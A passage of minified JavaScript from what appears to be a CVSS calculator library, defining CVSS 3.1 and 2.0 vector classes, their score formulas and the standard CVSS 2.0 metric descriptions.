Requirement",shortName:"IR",subCategory:"Modified Requirement (Impact Subscore) Modifiers",description:"This metric describes the remediation level for a vulnerability in an affected resource.",values:o.INTEGRITY_REQUIREMENT},a.AR={name:"Availability Requirement",shortName:"AR",subCategory:"Modified Requirement (Impact Subscore) Modifiers",description:"This metric describes the remediation level for a vulnerability in an affected resource.",values:o.AVAILABILITY_REQUIREMENT},a.ENVIRONMENTAL_CATEGORY_VALUES=[o.CR,o.IR,o.AR,o.MAV,o.MAC,o.MPR,o.MUI,o.MS,o.MC,o.MI,o.MA],a.REGISTERED_COMPONENTS=new Map,o.REGISTERED_COMPONENTS.set(o.BASE_CATEGORY,o.BASE_CATEGORY_VALUES),o.REGISTERED_COMPONENTS.set(o.TEMPORAL_CATEGORY,o.TEMPORAL_CATEGORY_VALUES),o.REGISTERED_COMPONENTS.set(o.ENVIRONMENTAL_CATEGORY,o.ENVIRONMENTAL_CATEGORY_VALUES),a.ATTRIBUTE_SEVERITY_ORDER=[[o.S_VALUES.U,o.MS_VALUES.U],[o.CONFIDENTIALITY_IMPACT_VALUES.N,o.INTEGRITY_IMPACT_VALUES.N,o.AVAILABILITY_IMPACT_VALUES.N],[o.AV_VALUES.P,o.MAV_VALUES.P],[o.CONFIDENTIALITY_IMPACT_VALUES.L,o.INTEGRITY_IMPACT_VALUES.L,o.AVAILABILITY_IMPACT_VALUES.L],[o.PR_VALUES.H,o.MPR_VALUES.H],[o.AC_VALUES.H,o.MAC_VALUES.H],[o.CONFIDENTIALITY_REQUIREMENT_VALUES.L,o.INTEGRITY_REQUIREMENT_VALUES.L,o.AVAILABILITY_REQUIREMENT_VALUES.L],[o.AV_VALUES.L,o.MAV_VALUES.L],[o.CONFIDENTIALITY_IMPACT_VALUES.H,o.INTEGRITY_IMPACT_VALUES.H,o.AVAILABILITY_IMPACT_VALUES.H],[o.AV_VALUES.A,o.MAV_VALUES.A],[o.UI_VALUES.R,o.MUI_VALUES.R],[o.PR_VALUES.L,o.MPR_VALUES.L],[o.AC_VALUES.L,o.MAC_VALUES.L],[o.AV_VALUES.N,o.MAV_VALUES.N],[o.PR_VALUES.N,o.MPR_VALUES.N],[o.UI_VALUES.N,o.MUI_VALUES.N],[o.E_VALUES.U],[o.E_VALUES.P],[o.E_VALUES.F],[o.E_VALUES.H],[o.E_VALUES.X],[o.RC_VALUES.U],[o.RL_VALUES.O],[o.RL_VALUES.T],[o.RC_VALUES.R],[o.RL_VALUES.W],[o.AV_VALUES.X,o.MAV_VALUES.X],[o.AC_VALUES.X,o.MAC_VALUES.X],[o.PR_VALUES.X,o.MPR_VALUES.X],[o.UI_VALUES.X,o.MUI_VALUES.X],[o.S_VALUES.C,o.MS_VALUES.C],[o.S_VALUES.X,o.MS_VALUES.X],[o.CONFIDENTIALITY_IMPACT_VALUES.X],[o.INTEGRITY_IMPACT_VALUES.X],[o.AVAILABILITY_IMPACT_VALUES.X],[o.RL_VALUES.U],[o.RL_VALUES.X],[o.RC_VALUES.C],[o.RC_VALUES.X],[o.CONFIDENTIALITY_REQUIREMENT_VALUES.M,o.INTEGRITY_REQUIREMENT_VALUES.M,o.AVAILABILITY_REQUIREMENT_VALUES.M],[o.CONFIDENTIALITY_REQUIREMENT_VALUES.X,o.INTEGRITY_REQUIREMENT_VALUES.X,o.AVAILABILITY_REQUIREMENT_VALUES.X],[o.CONFIDENTIALITY_REQUIREMENT_VALUES.H,o.INTEGRITY_REQUIREMENT_VALUES.H,o.AVAILABILITY_REQUIREMENT_VALUES.H]]},371:(e,t,o)=>{Object.defineProperty(t,"__esModule",{value:!0}),t.Cvss3P1=void 0;const a=o(154),i=o(951);class s extends a.CvssVector{constructor(e){super(e)}getRegisteredComponents(){return i.Cvss3P1Components.REGISTERED_COMPONENTS}getVectorPrefix(){return"CVSS:3.1/"}getVectorName(){return"CVSS:3.1"}fillAverageVector(){this.applyVector("AV:N/AC:H/PR:N/UI:N/S:U/C:L/I:L/A:L")}fillRandomBaseVector(){this.fillRandomComponentsForCategory(i.Cvss3P1Components.BASE_CATEGORY)}fillRandomTemporalVector(){this.fillRandomComponentsForCategory(i.Cvss3P1Components.TEMPORAL_CATEGORY)}fillRandomEnvironmentalVector(){this.fillRandomComponentsForCategory(i.Cvss3P1Components.ENVIRONMENTAL_CATEGORY)}fillRandomComponentsForCategory(e){const t=i.Cvss3P1Components.REGISTERED_COMPONENTS.get(e);if(t)for(let e=0;e<t.length;e++){const o=t[e],a=super.pickRandomDefinedComponentValue(o);if(!a)return console.warn("Failed to pick random vector component for",o),void this.fillAverageVector();this.applyComponent(o,a)}else console.warn("Failed to pick random vector components for",e)}calculateScoresInternal(e=!1){const t=this.isBaseFullyDefined(),o=this.isAnyTemporalDefined(),a=this.isAnyEnvironmentalDefined();return{normalized:e,base:t?super.round(this.calculateExactBaseScore(),1):void 0,impact:t?super.normalizeScore(super.round(this.calculateImpactScore(),1),e?6:10):void 0,exploitability:t?super.normalizeScore(super.round(this.calculateExactExploitabilityScore(),1),e?3.9:10):void 0,temporal:t&&o?super.round(this.calculateExactTemporalScore(),1):void 0,environmental:t&&a?super.round(this.calculateExactEnvironmentalScore(),1):void 0,modifiedImpact:t&&a?super.normalizeScore(super.round(Math.max(0,this.calculateExactAdjustedImpactScore()),1),e?6.1:10):void 0,overall:super.round(this.calculateExactOverallScore(),1),vector:this.toString()}}calculateExactBaseScore(){if(!this.isBaseFullyDefined())return 0;let e=this.calculateExactImpactScore();if(e<=0)return 0;let t=this.calculateExactExploitabilityScore();return this.getComponent(i.Cvss3P1Components.S).value?super.roundUp(Math.min(s.SCOPE_COEFFICIENT*(e+t),10)):super.roundUp(Math.min(e+t,10))}calculateImpactScore(){const e=this.calculateExactImpactScore();return e<=0?0:e}calculateExactImpactScore(){let e=this.calculateExactISSScore();return this.getComponent(i.Cvss3P1Components.S).value?s.SCOPE_CHANGED_FACTOR*(e-.029)-3.25*Math.pow(e-.02,15):s.SCOPE_UNCHANGED_FACTOR*e}calculateExactISSScore(){return 1-(1-this.getComponent(i.Cvss3P1Components.C).value)*(1-this.getComponent(i.Cvss3P1Components.I).value)*(1-this.getComponent(i.Cvss3P1Components.A).value)}calculateExactMISSScore(){let e,t,o,a,s,n,r=this.getComponent(i.Cvss3P1Components.MC),c=this.getComponent(i.Cvss3P1Components.MI),l=this.getComponent(i.Cvss3P1Components.MA),m=this.getComponent(i.Cvss3P1Components.C),h=this.getComponent(i.Cvss3P1Components.I),E=this.getComponent(i.Cvss3P1Components.A),u=this.getComponent(i.Cvss3P1Components.CR),d=this.getComponent(i.Cvss3P1Components.IR),p=this.getComponent(i.Cvss3P1Components.AR);return e=r===i.Cvss3P1Components.MC.values[0]?m.value:r.value,t=c===i.Cvss3P1Components.MI.values[0]?h.value:c.value,o=l===i.Cvss3P1Components.MA.values[0]?E.value:l.value,i.Cvss3P1Components.CR.values[0],a=u.value,i.Cvss3P1Components.IR.values[0],s=d.value,i.Cvss3P1Components.AR.values[0],n=p.value,Math.min(1-(1-a*e)*(1-s*t)*(1-n*o),.915)}calculateExactExploitabilityScore(){const e=this.getComponent(i.Cvss3P1Components.AV).value,t=this.getComponent(i.Cvss3P1Components.AC).value,o=this.getComponent(i.Cvss3P1Components.UI).value;let a;return a=this.getComponent(i.Cvss3P1Components.S).value?this.getComponent(i.Cvss3P1Components.PR).changedValue:this.getComponent(i.Cvss3P1Components.PR).value,s.EXPLOITABILITY_COEFFICIENT*e*t*a*o}calculateExactTemporalScore(){if(!this.isBaseFullyDefined())return 0;if(!this.isAnyTemporalDefined())return 0;let e=this.getComponent(i.Cvss3P1Components.E).value,t=this.getComponent(i.Cvss3P1Components.RL).value,o=this.getComponent(i.Cvss3P1Components.RC).value,a=this.calculateExactBaseScore();return super.roundUp(a*e*t*o)}calculateExactEnvironmentalScore(){if(!this.isBaseFullyDefined())return 0;if(!this.isAnyEnvironmentalDefined())return 0;let e=this.calculateExactAdjustedImpactScore();if(e<=0)return 0;let t=this.calculateAdjustedExploitability(),o=this.getComponent(i.Cvss3P1Components.E).value,a=this.getComponent(i.Cvss3P1Components.RL).value,n=this.getComponent(i.Cvss3P1Components.RC).value;if(this.isModifiedScope()){let i=super.roundUp(Math.min(e+t,10));return super.roundUp(i*o*a*n)}{let i=super.roundUp(Math.min(s.SCOPE_COEFFICIENT*(e+t),10));return super.roundUp(i*o*a*n)}}calculateExactAdjustedImpactScore(){if(!this.isBaseFullyDefined())return 0;if(!this.isAnyEnvironmentalDefined())return 0;let e=this.calculateExactMISSScore();return this.isModifiedScope()?s.SCOPE_UNCHANGED_FACTOR*e:s.SCOPE_CHANGED_FACTOR*(e-.029)-3.25*Math.pow(.9731*e-.02,13)}calculateAdjustedExploitability(){let e,t=this.getFirstDefinedComponent([i.Cvss3P1Components.MAV,i.Cvss3P1Components.AV]).value,o=this.getFirstDefinedComponent([i.Cvss3P1Components.MAC,i.Cvss3P1Components.AC]).value,a=this.getFirstDefinedComponent([i.Cvss3P1Components.MUI,i.Cvss3P1Components.UI]).value,n=this.getFirstDefinedComponent([i.Cvss3P1Components.MPR,i.Cvss3P1Components.PR]);return e=this.isModifiedScope()?n.value:n.changedValue,s.EXPLOITABILITY_COEFFICIENT*t*o*e*a}isModifiedScope(){let e=this.getComponent(i.Cvss3P1Components.S),t=this.getComponent(i.Cvss3P1Components.MS);return t===i.Cvss3P1Components.MS.values[0]?!e.value:!t.value}calculateExactOverallScore(){return this.isAnyEnvironmentalDefined()?this.calculateExactEnvironmentalScore():this.isAnyTemporalDefined()?this.calculateExactTemporalScore():this.calculateExactBaseScore()}isBaseFullyDefined(){return super.isCategoryFullyDefined(i.Cvss3P1Components.BASE_CATEGORY)}isTemporalFullyDefined(){return super.isCategoryFullyDefined(i.Cvss3P1Components.TEMPORAL_CATEGORY)}isEnvironmentalFullyDefined(){return super.isCategoryFullyDefined(i.Cvss3P1Components.ENVIRONMENTAL_CATEGORY)}isAnyBaseDefined(){return super.isCategoryPartiallyDefined(i.Cvss3P1Components.BASE_CATEGORY)}isAnyTemporalDefined(){return super.isCategoryPartiallyDefined(i.Cvss3P1Components.TEMPORAL_CATEGORY)}isAnyEnvironmentalDefined(){return super.isCategoryPartiallyDefined(i.Cvss3P1Components.ENVIRONMENTAL_CATEGORY)}getJsonSchemaSeverity(e){return 0===e||isNaN(e)?"NONE":e<=3.9?"LOW":e<=6.9?"MEDIUM":e<=8.9?"HIGH":"CRITICAL"}createJsonSchema(){const e=this.calculateScores();return{version:"3.1",vectorString:this.toString(),baseScore:e.base,temporalScore:e.temporal,environmentalScore:e.environmental,baseSeverity:this.getJsonSchemaSeverity(e.base),temporalSeverity:e.temporal?this.getJsonSchemaSeverity(e.temporal):void 0,environmentalSeverity:e.environmental?this.getJsonSchemaSeverity(e.environmental):void 0,attackVector:this.getComponent(i.Cvss3P1Components.AV).jsonSchemaName,attackComplexity:this.getComponent(i.Cvss3P1Components.AC).jsonSchemaName,privilegesRequired:this.getComponent(i.Cvss3P1Components.PR).jsonSchemaName,userInteraction:this.getComponent(i.Cvss3P1Components.UI).jsonSchemaName,scope:this.getComponent(i.Cvss3P1Components.S).jsonSchemaName,confidentialityImpact:this.getComponent(i.Cvss3P1Components.C).jsonSchemaName,integrityImpact:this.getComponent(i.Cvss3P1Components.I).jsonSchemaName,availabilityImpact:this.getComponent(i.Cvss3P1Components.A).jsonSchemaName,exploitCodeMaturity:this.getComponent(i.Cvss3P1Components.E).jsonSchemaName,remediationLevel:this.getComponent(i.Cvss3P1Components.RL).jsonSchemaName,reportConfidence:this.getComponent(i.Cvss3P1Components.RC).jsonSchemaName,confidentialityRequirement:this.getComponent(i.Cvss3P1Components.CR).jsonSchemaName,integrityRequirement:this.getComponent(i.Cvss3P1Components.IR).jsonSchemaName,availabilityRequirement:this.getComponent(i.Cvss3P1Components.AR).jsonSchemaName,modifiedAttackVector:this.getComponent(i.Cvss3P1Components.MAV).jsonSchemaName,modifiedAttackComplexity:this.getComponent(i.Cvss3P1Components.MAC).jsonSchemaName,modifiedPrivilegesRequired:this.getComponent(i.Cvss3P1Components.MPR).jsonSchemaName,modifiedUserInteraction:this.getComponent(i.Cvss3P1Components.MUI).jsonSchemaName,modifiedScope:this.getComponent(i.Cvss3P1Components.MS).jsonSchemaName,modifiedConfidentialityImpact:this.getComponent(i.Cvss3P1Components.MC).jsonSchemaName,modifiedIntegrityImpact:this.getComponent(i.Cvss3P1Components.MI).jsonSchemaName,modifiedAvailabilityImpact:this.getComponent(i.Cvss3P1Components.MA).jsonSchemaName}}}t.Cvss3P1=s,s.SCOPE_CHANGED_FACTOR=7.52,s.SCOPE_UNCHANGED_FACTOR=6.42,s.EXPLOITABILITY_COEFFICIENT=8.22,s.SCOPE_COEFFICIENT=1.08},475:(e,t,o)=>{Object.defineProperty(t,"__esModule",{value:!0}),t.Cvss2=void 0;const a=o(154),i=o(479);class s extends a.CvssVector{constructor(e){super(e)}getRegisteredComponents(){return i.Cvss2Components.REGISTERED_COMPONENTS}getVectorPrefix(){return""}getVectorName(){return"CVSS:2.0"}fillAverageVector(){this.applyVector("AV:A/AC:M/Au:N/C:P/I:P/A:P")}fillRandomBaseVector(){const e=i.Cvss2Components.BASE_CATEGORY_VALUES;for(let t=0;t<e.length;t++){const o=e[t],a=super.pickRandomDefinedComponentValue(o);if(!a)return console.warn("Failed to pick random vector component for",o),void this.fillAverageVector();this.applyComponent(o,a)}}calculateScoresInternal(e=!1){const t=this.isBaseFullyDefined(),o=this.isAnyTemporalDefined(),a=this.isAnyEnvironmentalDefined();return{normalized:e,base:t?super.round(this.calculateExactBaseScore(),1):void 0,impact:t?super.round(this.calculateExactImpactScore(),1):void 0,exploitability:t?super.round(this.calculateExactExploitabilityScore(),1):void 0,temporal:t&&o?super.round(this.calculateExactTemporalScore(),1):void 0,environmental:t&&a?super.round(this.calculateExactEnvironmentalScore(),1):void 0,modifiedImpact:t&&a?super.round(this.calculateExactAdjustedImpactScore(),1):void 0,overall:super.round(this.calculateExactOverallScore(),1),vector:this.toString()}}calculateExactBaseScore(){if(!this.isBaseFullyDefined())return 0;let e=this.calculateExactImpactScore();return(.6*e+.4*this.calculateExactExploitabilityScore()-1.5)*this.f(e)}calculateExactImpactScore(){return this.isBaseFullyDefined()?10.41*(1-(1-this.getComponent(i.Cvss2Components.C).value)*(1-this.getComponent(i.Cvss2Components.I).value)*(1-this.getComponent(i.Cvss2Components.A).value)):0}calculateExactExploitabilityScore(){return this.isBaseFullyDefined()?20*this.getComponent(i.Cvss2Components.AC).value*this.getComponent(i.Cvss2Components.Au).value*this.getComponent(i.Cvss2Components.AV).value:0}calculateExactTemporalScore(){return this.isAnyTemporalDefined()?super.round(this.calculateExactBaseScore(),1)*this.getComponent(i.Cvss2Components.E).value*this.getComponent(i.Cvss2Components.RL).value*this.getComponent(i.Cvss2Components.RC).value:0}calculateExactAdjustedBaseScore(){let e=this.calculateExactAdjustedImpactScore(),t=this.calculateExactExploitabilityScore();return t=this.round(t,1),(.6*e+.4*t-1.5)*this.f(e)}calculateExactAdjustedTemporalScore(){return this.calculateExactAdjustedBaseScore()*this.getComponent(i.Cvss2Components.E).value*this.getComponent(i.Cvss2Components.RL).value*this.getComponent(i.Cvss2Components.RC).value}calculateExactEnvironmentalScore(){if(!this.isAnyEnvironmentalDefined())return 0;let e=this.calculateExactAdjustedTemporalScore();return(e+(10-e)*this.getComponent(i.Cvss2Components.CDP).value)*this.getComponent(i.Cvss2Components.TD).value}calculateExactAdjustedImpactScore(){if(!this.isAnyEnvironmentalDefined())return 0;let e=this.getComponent(i.Cvss2Components.C).value,t=this.getComponent(i.Cvss2Components.I).value,o=this.getComponent(i.Cvss2Components.A).value,a=this.getComponent(i.Cvss2Components.CR).value,s=this.getComponent(i.Cvss2Components.IR).value,n=this.getComponent(i.Cvss2Components.AR).value;return Math.min(10,10.41*(1-(1-e*a)*(1-t*s)*(1-o*n)))}calculateExactOverallScore(){return this.isAnyEnvironmentalDefined()?this.calculateExactEnvironmentalScore():this.isAnyTemporalDefined()?this.calculateExactTemporalScore():this.calculateExactBaseScore()}isBaseFullyDefined(){return super.isCategoryFullyDefined(i.Cvss2Components.BASE_CATEGORY)}isTemporalFullyDefined(){return super.isCategoryFullyDefined(i.Cvss2Components.TEMPORAL_CATEGORY)}isEnvironmentalFullyDefined(){return super.isCategoryFullyDefined(i.Cvss2Components.ENVIRONMENTAL_CATEGORY)}isAnyBaseDefined(){return super.isCategoryPartiallyDefined(i.Cvss2Components.BASE_CATEGORY)}isAnyTemporalDefined(){return super.isCategoryPartiallyDefined(i.Cvss2Components.TEMPORAL_CATEGORY)}isAnyEnvironmentalDefined(){return super.isCategoryPartiallyDefined(i.Cvss2Components.ENVIRONMENTAL_CATEGORY)}f(e){return 0===e?0:1.176}createJsonSchema(){const e=this.calculateScores();return{version:"2.0",vectorString:this.toString(),baseScore:e.base,temporalScore:e.temporal,environmentalScore:e.environmental,accessVector:this.getComponent(i.Cvss2Components.AV).jsonSchemaName,accessComplexity:this.getComponent(i.Cvss2Components.AC).jsonSchemaName,authentication:this.getComponent(i.Cvss2Components.Au).jsonSchemaName,confidentialityImpact:this.getComponent(i.Cvss2Components.C).jsonSchemaName,integrityImpact:this.getComponent(i.Cvss2Components.I).jsonSchemaName,availabilityImpact:this.getComponent(i.Cvss2Components.A).jsonSchemaName,exploitability:this.getComponent(i.Cvss2Components.E).jsonSchemaName,remediationLevel:this.getComponent(i.Cvss2Components.RL).jsonSchemaName,reportConfidence:this.getComponent(i.Cvss2Components.RC).jsonSchemaName,collateralDamagePotential:this.getComponent(i.Cvss2Components.CDP).jsonSchemaName,targetDistribution:this.getComponent(i.Cvss2Components.TD).jsonSchemaName,confidentialityRequirement:this.getComponent(i.Cvss2Components.CR).jsonSchemaName,integrityRequirement:this.getComponent(i.Cvss2Components.IR).jsonSchemaName,availabilityRequirement:this.getComponent(i.Cvss2Components.AR).jsonSchemaName}}}t.Cvss2=s},479:(e,t,o)=>{var a;Object.defineProperty(t,"__esModule",{value:!0}),t.Cvss2Components=void 0;const i=o(154);class s{}t.Cvss2Components=s,a=s,s.BASE_CATEGORY={name:"base",description:"Represents the intrinsic and fundamental characteristics of a vulnerability that are constant over time and user environments."},s.AV_VALUES={ND:{shortName:"ND",value:1,name:"Not Defined",abbreviatedName:"Not Def.",jsonSchemaName:"NOT_DEFINED",description:"Assigning this value to the metric will result in no score being calculated."},L:{shortName:"L",value:.395,name:"Local",jsonSchemaName:"LOCAL",description:"A vulnerability exploitable with only local access requires the attacker to have either physical access to the vulnerable system or a local (shell) account. Examples of locally exploitable vulnerabilities are peripheral attacks such as Firewire/USB DMA attacks, and local privilege escalations (e.g., sudo)."},A:{shortName:"A",value:.646,name:"Adjacent Network",abbreviatedName:"Adj. Network",jsonSchemaName:"ADJACENT_NETWORK",description:"A vulnerability exploitable with adjacent network access requires the attacker to have access to either the broadcast or collision domain of the vulnerable software.  Examples of local networks include local IP subnet, Bluetooth, IEEE 802.11, and local Ethernet segment."},N:{shortName:"N",value:1,name:"Network",jsonSchemaName:"NETWORK",description:'A vulnerability exploitable with network access means the vulnerable software is bound to the network stack and the attacker does not require local network access or local access. Such a vulnerability is often termed "remotely exploitable". An example of a network attack is an RPC buffer overflow.'}},s.AV={name:"Access Vector",shortName:"AV",subCategory:"Exploitability Metrics",description:"This metric reflects how the vulnerability is exploited. The more remote an attacker can be to attack a host, the greater the vulnerability score.",values:[a.AV_VALUES.ND,a.AV_VALUES.L,a.AV_VALUES.A,a.AV_VALUES.N]},s.AC_VALUES={ND:{shortName:"ND",value:1,name:"Not Defined",abbreviatedName:"Not Def.",jsonSchemaName:"NOT_DEFINED",description:"Assigning this value to the metric will result in no score being calculated."},H:{shortName:"H",value:.35,name:"High",jsonSchemaName:"HIGH",description:"Specialized access conditions exist. For example, an attacker can only exploit the vulnerability under very specialized conditions."},M:{shortName:"M",value:.61,name:"Medium",jsonSchemaName:"MEDIUM",description:"The access conditions are somewhat specialized. For example, the attacker can only exploit the vulnerability under certain conditions."},L:{shortName:"L",value:.71,name:"Low",jsonSchemaName:"LOW",description:"Specialized access conditions or extenuating circumstances do not exist. For example, an attacker can exploit the vulnerability under most conditions."}},s.AC={name:"Access Complexity",shortName:"AC",subCategory:"Exploitability Metrics",description:'This metric measures the complexity of the attack required to exploit the vulnerability once an attacker has gained access to the target system. For example, consider a buffer overflow in an Internet service: If the vulnerability is exploitable only once a user has been authenticated by the service, the vulnerability is only "Medium" complexity. If, however, the vulnerability can be exploited anonymously, it is "Low" complexity.',values:[a.AC_VALUES.ND,a.AC_VALUES.H,a.AC_VALUES.M,a.AC_VALUES.L]},s.Au_VALUES={ND:{shortName:"ND",value:1,name:"Not Defined",abbreviatedName:"Not Def.",jsonSchemaName:"NOT_DEFINED",description:"Assigning this value to the metric will result in no score being calculated."},M:{shortName:"M",value:.45,name:"Multiple",jsonSchemaName:"MULTIPLE",description:"Exploiting the vulnerability requires that the attacker authenticate two or more times, even if the same credentials are used each time. An example is an attacker authenticating to an operating system in addition to providing credentials to access an application hosted on that system."},S:{shortName:"S",value:.56,name:"Single",jsonSchemaName:"SINGLE",description:"The vulnerability requires an attacker to be logged into the system (such as at a command line or via a desktop session or web interface)."},N:{shortName:"N",value:.704,name:"None",jsonSchemaName:"NONE",description:"Authentication is not required to exploit the vulnerability."}},s.Au={name:"Authentication",shortName:"Au",subCategory:"Exploitability Metrics",description:'This metric measures the number of times an attacker must authenticate to a target in order to exploit a vulnerability. "Multiple" means that the attacker must authenticate two or more times, "Single" means that the attacker must authenticate once, and "None" means that the attacker need not authenticate at all to exploit the vulnerability.',values:[a.Au_VALUES.ND,a.Au_VALUES.M,a.Au_VALUES.S,a.Au_VALUES.N]},s.C_VALUES={ND:{shortName:"ND",value:1,name:"Not Defined",abbreviatedName:"Not Def.",jsonSchemaName:"NOT_DEFINED",description:"Assigning this value to the metric will result in no score being calculated."},N:{shortName:"N",value:0,name:"None",jsonSchemaName:"NONE",description:"There is no impact to the confidentiality of the system."},P:{shortName:"P",value:.275,name:"Partial",jsonSchemaName:"PARTIAL",description:"There is considerable informational disclosure. Access to some system files is possible, but the attacker does not have control over what is obtained, or the scope of the loss is constrained. An example is a vulnerability that divulges only certain tables in a database."},C:{shortName:"C",value:.66,name:"Complete",jsonSchemaName:"COMPLETE",description:"There is total information disclosure, resulting in all system files being revealed. The attacker is able to read all of the system's data (memory, files, etc.)"}},s.C={name:"Confidentiality Impact",shortName:"C",subCategory:"Impact Metrics",description:"This metric measures the impact to the confidentiality of the information resources managed by a software component due to a successfully exploited vulnerability. Confidentiality refers to limiting information access and disclosure to only authorized users, as well as preventing access by, or disclosure to, unauthorized ones.",values:[a.C_VALUES.ND,a.C_VALUES.N,a.C_VALUES.P,a.C_VALUES.C]},s.I_VALUES={ND:{shortName:"ND",value:1,name:"Not Defined",abbreviatedName:"Not Def.",jsonSchemaName:"NOT_DEFINED",description:"Assigning this value to the metric will result in no score being calculated."},N:{shortName:"N",value:0,name:"None",jsonSchemaName:"NONE",description:"There is no impact to the integrity of the system."},P:{shortName:"P",value:.275,name:"Partial",jsonSchemaName:"PARTIAL",description:"Modification of some system files or information is possible, but the attacker does not have control over what can be modified, or the scope of what the attacker can affect is limited. For example, system or application files may be overwritten or modified, but either the attacker has no control over which files are affected or the attacker can modify files within only a limited context or scope."},C:{shortName:"C",value:.66,name:"Complete",jsonSchemaName:"COMPLETE",description:"There is a total compromise of system integrity. There is a complete loss of system protection, resulting in the entire system being compromised. The attacker is able to modify any files on the target system."}},s.I={name:"Integrity Impact",shortName:"I",subCategory:"Impact Metrics",description:"This metric measures the impact to integrity of a successfully exploited vulnerability. Integrity refers to the trustworthiness and guaranteed veracity of information.",values:[a.I_VALUES.ND,a.I_VALUES.N,a.I_VALUES.P,a.I_VALUES.C]},s.A_VALUES={ND:{shortName:"ND",value:1,name:"Not Defined",abbreviatedName:"Not Def.",jsonSchemaName:"NOT_DEFINED",description:"Assigning this value to the metric will result in no score being calculated."},N:{shortName:"N",value:0,name:"None",jsonSchemaName:"NONE",description:"There is no impact to availability within the impacted component."},P:{shortName:"P",value:.275,name:"Partial",jsonSchemaName:"PARTIAL",description:"There is reduced performance or interruptions in resource availability. An example is a network-based flood attack that permits a limited number of successful connections to an Internet service."},C:{shortName:"C",value:.66,name:"Complete",jsonSchemaName:"COMPLETE",description:"There is a total shutdown of the affected resource. The attacker can render the resource completely unavailable."}},s.A={name:"Availability Impact",shortName:"A",subCategory:"Impact Metrics",description:"This metric measures the impact to the availability of the impacted component resulting from a successfully exploited vulnerability. While the Confidentiality and Integrity impact metrics apply to the loss of confidentiality or integrity of data (e.g., information, files) used by the impacted component, this metric refers to the loss of availability of the impacted component itself, such as a networked service (e.g., web, database, email). Since availability refers to the accessibility of information resources, attacks that consume network bandwidth, processor cycles, or disk space all impact the availability of an impacted component. This metric considers only the availability of the impacted component itself.",values:[a.A_VALUES.ND,a.A_VALUES.N,a.A_VALUES.P,a.A_VALUES.C]},s.BASE_CATEGORY_VALUES=[a.AV,a.AC,a.Au,a.C,a.I,a.A],s.TEMPORAL_CATEGORY={name:"temporal",description:"The threat posed by a vulnerability may change over time. Three such factors that CVSS captures are: confirmation of the technical details of a vulnerability, the remediation status of the vulnerability, and the availability of exploit code or techniques. Since temporal metrics are optional they each include a metric value that has no effect on the score."},s.E_VALUES={ND:{shortName:"ND",value:1,name:"Not Defined",abbreviatedName:"Not Def.",jsonSchemaName:"NOT_DEFINED",description:"Assigning this value to the metric will not influence the score. It is a signal to the equation to skip this metric."},U:{shortName:"U",value:.85,name:"Unproven",jsonSchemaName:"UNPROVEN",description:"No exploit code is available, or an exploit is entirely theoretical."},POC:{shortName:"POC",value:.9,name:"Proof-of-concept",abbreviatedName:"Proof-of-conc.",jsonSchemaName:"PROOF_OF_CONCEPT",description:"Proof-of-concept exploit code or an attack demonstration that is not practical for most systems is available. The code or technique is not functional in all situations and may require substantial modification by a skilled attacker."},F:{shortName:"F",value:.95,name:"Functional",jsonSchemaName:"FUNCTIONAL",description:"Functional exploit code is available. The code works in most situations where the vulnerability exists."},H:{shortName:"H",value:1,name:"High",jsonSchemaName:"HIGH",description:"Either the vulnerability is exploitable by functional mobile autonomous code, or no exploit is required (manual trigger) and details are widely available. The code works in every situation, or is actively being delivered via a mobile autonomous agent (such as a worm or virus)."}},s.E={name:"Exploitability",shortName:"E",description:'This metric measures the current state of exploit techniques or code availability. "Unproven that exploit exists" is the lowest impact and "Proof-of-concept code" is the highest impact.',values:[a.E_VALUES.ND,a.E_VALUES.U,a.E_VALUES.POC,a.E_VALUES.F,a.E_VALUES.H]},s.RL_VALUES={ND:{shortName:"ND",value:1,name:"Not Defined",abbreviatedName:"Not Def.",jsonSchemaName:"NOT_DEFINED",description:"Assigning this value to the metric will not influence the score. It is a signal to the equation to skip this metric."},OF:{shortName:"OF",value:.87,name:"Official Fix",abbreviatedName:"Off. Fix",jsonSchemaName:"OFFICIAL_FIX",description:"A complete vendor solution is available. Either the vendor has issued an official patch, or an upgrade is available."},TF:{shortName:"TF",value:.9,name:"Temporary Fix",abbreviatedName:"Temp. Fix",jsonSchemaName:"TEMPORARY_FIX",description:"There is an official but temporary fix available. This includes instances where the vendor issues a temporary hotfix, tool, or workaround."},W:{shortName:"W",value:.95,name:"Workaround",jsonSchemaName:"WORKAROUND",description:"There is an unofficial, non-vendor solution available. In some cases, users of the affected technology will create a patch of their own or provide steps to work around or otherwise mitigate the vulnerability."},U:{shortName:"U",value:1,name:"Unavailable",jsonSchemaName:"UNAVAILABLE",description:"There is either no solution available or it is impossible to apply."}},s.RL={name:"Remediation Level",shortName:"RL",description:'This metric measures the remediation level of a vulnerability. "Official fix" is the lowest impact and "Unavailable" is the highest impact.',values:[a.RL_VALUES.ND,a.RL_VALUES.OF,a.RL_VALUES.TF,a.RL_VALUES.W,a.RL_VALUES.U]},s.RC_VALUES={ND:{shortName:"ND",value:1,name:"Not Defined",abbreviatedName:"Not Def.",jsonSchemaName:"NOT_DEFINED",description:"Assigning this value to the metric will not influence the score. It is a signal to the equation to skip this metric."},UC:{shortName:"UC",value:.9,name:"Unconfirmed",jsonSchemaName:"UNCONFIRMED",description:"There is little confidence in the existence of this vulnerability. The report is unconfirmed, or the source is not known."},UR:{shortName:"UR",value:.95,name:"Uncorroborated",jsonSchemaName:"UNCORROBORATED",description:"There is reasonable confidence in the existence of this vulnerability, but the technical details are not known publicly. The report is unconfirmed."},C:{shortName:"C",value:1,name:"Confirmed",jsonSchemaName:"CONFIRMED",description:"The existence of this vulnerability is confirmed, but the details are not known publicly. An exploit has been observed, or proof-of-concept exploit code is available. The bugtraq ID or CVE ID has been made public."}},s.RC={name:"Report Confidence",shortName:"RC",description:'This metric measures the degree of confidence in the existence of the vulnerability and the credibility of the known technical details. "Unconfirmed" is the lowest confidence and "Confirmed" is the highest.',values:[a.RC_VALUES.ND,a.RC_VALUES.UC,a.RC_VALUES.UR,a.RC_VALUES.C]},s.TEMPORAL_CATEGORY_VALUES=[a.E,a.RL,a.RC],s.ENVIRONMENTAL_CATEGORY={name:"environmental",description:"Different environments can have an immense bearing on the risk that a vulnerability poses to an organization and its stakeholders. The CVSS environmental metric group captures the characteristics of a vulnerability that are associated with a user's IT environment. Since environmental metrics are optional they each include a metric value that has no effect on the score."},s.CDP_VALUES={ND:{shortName:"ND",value:0,name:"Not Defined",abbreviatedName:"Not Def.",jsonSchemaName:"NOT_DEFINED",description:"Assigning this value to the metric will not influence the score. It is a signal to the equation to skip this metric."},N:{shortName:"N",value:0,name:"None",jsonSchemaName:"NONE",description:"There is no potential for loss of life, physical assets, productivity or 